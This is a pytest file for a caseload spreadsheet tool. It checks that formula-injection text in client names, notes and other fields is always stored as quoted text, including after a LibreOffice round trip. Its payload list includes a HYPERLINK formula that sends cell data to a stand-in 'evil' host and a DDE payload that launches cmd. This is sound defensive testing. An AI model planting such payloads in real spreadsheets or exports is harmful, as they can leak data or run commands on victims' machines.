"""Formula injection through client data (reliability.md section 2, OWASP ASVS 1.2.10,
CWE-1236): text that looks like a formula goes into the workbook through the builder
and through recompute, and always comes back as the same text: a string cell, never a
formula, with Excel's quotePrefix flag when it starts with a trigger character. Also
after LibreOffice has opened and re-saved the workbook. All data is made up.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

from pyxl.adapters import libreoffice, schema
from pyxl.adapters.workbook_builder import FORMULA_TRIGGERS, due_list_count_formulas
from pyxl.adapters.workbook_reader import sheet_parts
from pyxl.services.new_workbook import create_workbook
from pyxl.services.recompute import recompute

D = dt.date
AS_OF = D(2026, 3, 16)
FIRST = schema.HEADER_ROW + 1
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

PAYLOADS = (
    '=HYPERLINK("http://evil/?d="&B3,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "#N/A",
    "00123",
    "1-2",
    "\uff1d1+1",  # full-width =
)
# Rejected rows whose Program is a payload: the payload is echoed on the Errors sheet.
BAD_PROGRAMS = ('=HYPERLINK("http://evil/?d="&B3,"Click")', "@SUM(1)", "\t=1", "#N/A", "-2+3")


def triggered(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def tidy(text: str) -> str:
    """How validation cleans a name (whitespace runs, including a leading tab, go)."""
    return " ".join(text.split())


def _row(sheet: schema.Sheet, **values: object) -> list[object]:
    return [values.get(h) for h in sheet.headers]


def _client(case_id: str, name: str, program: str = "Texas Choices") -> list[object]:
    return _row(
        schema.CLIENTS,
        **{
            "Case ID": case_id,
            "Client Name": name,
            "Program": program,
            "Branch": "Austin North",
            "Case Manager": "Maria Lopez",
            "Referral Date": D(2026, 1, 5),
        },
    )


def build(path: Path) -> Path:
    clients = [_client(f"C{i:03d}", p) for i, p in enumerate(PAYLOADS)]
    clients += [_client(f"X{i:03d}", "Bad Program", p) for i, p in enumerate(BAD_PROGRAMS)]
    contacts = [
        _row(
            schema.CONTACTS,
            **{
                "Case ID": f"C{i:03d}",
                "Date": D(2026, 2, 2),
                "Method": "Phone",
                "Successful": True,
                "Notes": p,
            },
        )
        for i, p in enumerate(PAYLOADS)
    ]
    return create_workbook(
        path,
        as_of=AS_OF,
        rows={
            "Branches": [_row(schema.BRANCHES, Branch="Austin North", State="TX", Calendar="TX")],
            "Staff": [
                _row(schema.STAFF, **{"Case Manager": "Maria Lopez", "Branch": "Austin North"})
            ],
            "Clients": clients,
            "Contacts": contacts,
        },
    )


@pytest.fixture(scope="module")
def recomputed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = build(tmp_path_factory.mktemp("inject") / "caseload.xlsx")
    result = recompute(path, AS_OF)
    assert result.due_list_rows >= len(PAYLOADS)
    return path


def _assert_text_cell(cell: openpyxl.cell.cell.Cell, expected: str) -> None:
    where = f"{cell.parent.title}!{cell.coordinate}"
    assert cell.value == expected, where
    assert cell.data_type == "s", f"{where} is stored as {cell.data_type!r}, not text"
    assert bool(cell.quotePrefix) == triggered(expected), f"{where} quotePrefix"


# ---------------------------------------------------------------- the builder


def test_builder_writes_every_payload_as_the_same_text(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(build(tmp_path / "built.xlsx"))
    names = wb["Clients"]
    notes = wb["Contacts"]
    name_col = schema.CLIENTS.headers.index("Client Name") + 1
    notes_col = schema.CONTACTS.headers.index("Notes") + 1
    for i, payload in enumerate(PAYLOADS):
        _assert_text_cell(names.cell(FIRST + i, name_col), payload)
        _assert_text_cell(notes.cell(FIRST + i, notes_col), payload)


# ---------------------------------------------------------------- recompute


def test_due_list_client_names_are_text_with_quote_prefix(recomputed: Path) -> None:
    ws = openpyxl.load_workbook(recomputed)["Due List"]
    col = schema.DUE_LIST.headers.index("Client Name") + 1
    case_col = schema.DUE_LIST.headers.index("Case ID") + 1
    seen = set()
    for r in range(FIRST, ws.max_row + 1):
        case_id = ws.cell(r, case_col).value
        expected = tidy(PAYLOADS[int(case_id[1:])])
        _assert_text_cell(ws.cell(r, col), expected)
        seen.add(case_id)
    assert seen == {f"C{i:03d}" for i in range(len(PAYLOADS))}


def test_errors_sheet_echoes_payload_values_as_text(recomputed: Path) -> None:
    ws = openpyxl.load_workbook(recomputed)["Errors"]
    headers = schema.ERRORS.headers
    value_col = headers.index("Value") + 1
    cell_col = headers.index("Cell") + 1
    program_col = schema.CLIENTS.headers.index("Program")
    echoed = {}
    for r in range(FIRST, ws.max_row + 1):
        echoed[ws.cell(r, cell_col).value] = ws.cell(r, value_col)
    for i, payload in enumerate(BAD_PROGRAMS):
        address = f"{openpyxl.utils.get_column_letter(program_col + 1)}{FIRST + len(PAYLOADS) + i}"
        assert address in echoed, f"no problem reported for Clients!{address}"
        _assert_text_cell(echoed[address], payload)
    for row in ws.iter_rows(min_row=FIRST):
        for cell in row:
            assert cell.data_type in {"s", "n"}, cell.coordinate


def _sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        parts, _ = sheet_parts(z)
        return {name: z.read(part) for name, part in parts.items()}


def _formulas(xml: bytes) -> list[tuple[str, str]]:
    """(cell, formula text) of every formula on a sheet."""
    tree = etree.fromstring(xml)
    return [(f.getparent().get("r"), f.text or "") for f in tree.iter(f"{{{MAIN}}}f")]


def _only_the_due_list_filter_counts(
    name: str, formulas: list[tuple[str, str]], exact: bool = True
) -> None:
    """The only formulas are pyxl's own counts beside the Due List title: never client text.
    (`exact`: as pyxl wrote them; LibreOffice re-spells them when it saves.)"""
    if name != schema.DUE_LIST.name:
        assert not formulas, f"{name} has {len(formulas)} formulas: {formulas[:3]}"
        return
    expected = {f.lstrip("=") for _, f in due_list_count_formulas()}
    assert len(formulas) == len(expected)
    if exact:
        assert {text for _, text in formulas} == expected
    assert all(re.fullmatch(r"[A-Z]+1", cell) for cell, _ in formulas), formulas


def test_no_formula_element_anywhere(recomputed: Path) -> None:
    for name, xml in _sheet_xml(recomputed).items():
        tree = etree.fromstring(xml)
        _only_the_due_list_filter_counts(name, _formulas(xml))
        errors = tree.findall(f".//{{{MAIN}}}c[@t='e']")
        assert not errors, f"{name} has Excel error cells (a typed #N/A became an error?)"


def test_trigger_text_in_patched_sheets_has_a_quote_prefix_style(recomputed: Path) -> None:
    with zipfile.ZipFile(recomputed) as z:
        styles = etree.fromstring(z.read("xl/styles.xml"))
    xfs = styles.find(f"{{{MAIN}}}cellXfs")
    quoted = [xf.get("quotePrefix") in {"1", "true"} for xf in xfs]
    sheets = _sheet_xml(recomputed)
    checked = 0
    for name in (schema.DUE_LIST.name, schema.ERRORS.name):
        tree = etree.fromstring(sheets[name])
        for c in tree.iter(f"{{{MAIN}}}c"):
            if c.get("t") != "inlineStr":
                continue
            text = "".join(c.itertext())
            if triggered(text):
                style = int(c.get("s", "0"))
                assert quoted[style], f"{name}!{c.get('r')} {text!r} has style {style}"
                checked += 1
    assert checked >= sum(triggered(tidy(p)) for p in PAYLOADS)


def test_payloads_in_case_id_branch_and_case_manager_reach_the_due_list_as_text(
    tmp_path: Path,
) -> None:
    """Other columns the Due List copies: Case ID, Branch (not on Branches: a warning,
    the row still counts) and Case Manager (not on Staff: a warning)."""
    typed = [
        ("=1+1", "Austin North", "Maria Lopez"),
        ("-00123", '=HYPERLINK("http://evil/?d="&B3,"Click")', "Maria Lopez"),
        ("@A1", "Austin North", "+cmd|' /C calc'!A0"),
    ]
    clients = []
    for case_id, branch, manager in typed:
        row = _client(case_id, "Ana Example")
        row[schema.CLIENTS.headers.index("Branch")] = branch
        row[schema.CLIENTS.headers.index("Case Manager")] = manager
        clients.append(row)
    path = create_workbook(
        tmp_path / "columns.xlsx",
        as_of=AS_OF,
        rows={
            "Branches": [_row(schema.BRANCHES, Branch="Austin North", State="TX", Calendar="TX")],
            "Staff": [
                _row(schema.STAFF, **{"Case Manager": "Maria Lopez", "Branch": "Austin North"})
            ],
            "Clients": clients,
        },
    )
    result = recompute(path, AS_OF)
    assert {c.case_id for c in result.evaluation.workbook.caseload.clients} == {t[0] for t in typed}
    wb = openpyxl.load_workbook(path)
    due = wb["Due List"]
    headers = schema.DUE_LIST.headers
    seen = set()
    for r in range(FIRST, due.max_row + 1):
        case_id = due.cell(r, 1).value
        expected = next(t for t in typed if t[0] == case_id)
        _assert_text_cell(due.cell(r, 1), expected[0])
        _assert_text_cell(due.cell(r, headers.index("Branch") + 1), expected[1])
        _assert_text_cell(due.cell(r, headers.index("Case Manager") + 1), expected[2])
        seen.add(case_id)
    assert seen == {t[0] for t in typed}
    clients_ws = wb["Clients"]
    for i, (case_id, _, _) in enumerate(typed):
        _assert_text_cell(clients_ws.cell(FIRST + i, 1), case_id)


# ---------------------------------------------------------------- LibreOffice


def test_libreoffice_keeps_them_as_text(soffice: str, recomputed: Path, tmp_path: Path) -> None:
    """LibreOffice opens the recomputed workbook (recalculating on load) and saves it as
    xlsx and as CSV of the Due List: the names are still the literal text."""
    out = libreoffice.convert(recomputed, "xlsx", tmp_path / "xlsx")[0]
    ws = openpyxl.load_workbook(out)["Due List"]
    col = schema.DUE_LIST.headers.index("Client Name") + 1
    names = {}
    for r in range(FIRST, ws.max_row + 1):
        cell = ws.cell(r, col)
        if cell.value is None:
            continue
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
        names[ws.cell(r, 1).value] = cell.value
    assert names == {f"C{i:03d}": tidy(p) for i, p in enumerate(PAYLOADS)}
    for name, xml in _sheet_xml(out).items():
        _only_the_due_list_filter_counts(name, _formulas(xml), exact=False)

    rows = _due_list_csv(recomputed, tmp_path / "csv")
    header = rows[schema.HEADER_ROW - 1]
    assert header[:2] == ["Case ID", "Client Name"]
    csv_names = {r[0]: r[1] for r in rows[schema.HEADER_ROW :] if r and r[0]}
    assert csv_names == {f"C{i:03d}": tidy(p) for i, p in enumerate(PAYLOADS)}


def _due_list_csv(source: Path, outdir: Path) -> list[list[str]]:
    """The Due List exported by LibreOffice as UTF-8 CSV.

    The CSV filter's 12th token picks one sheet; LibreOffice then names the file
    "<stem>-<sheet>.csv", which `libreoffice.convert` does not expect, so its
    "no output" complaint is checked and the real file read.
    """
    with zipfile.ZipFile(source) as z:
        order = list(sheet_parts(z)[0])
    sheet_number = order.index(schema.DUE_LIST.name) + 1
    spec = (
        f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,{sheet_number}"
    )
    try:
        libreoffice.convert(source, spec, outdir)
    except libreoffice.LibreOfficeError as exc:
        assert "produced no output" in str(exc), exc
    path = outdir / f"{source.stem}-{schema.DUE_LIST.name}.csv"
    assert path.exists(), sorted(p.name for p in outdir.iterdir())
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))
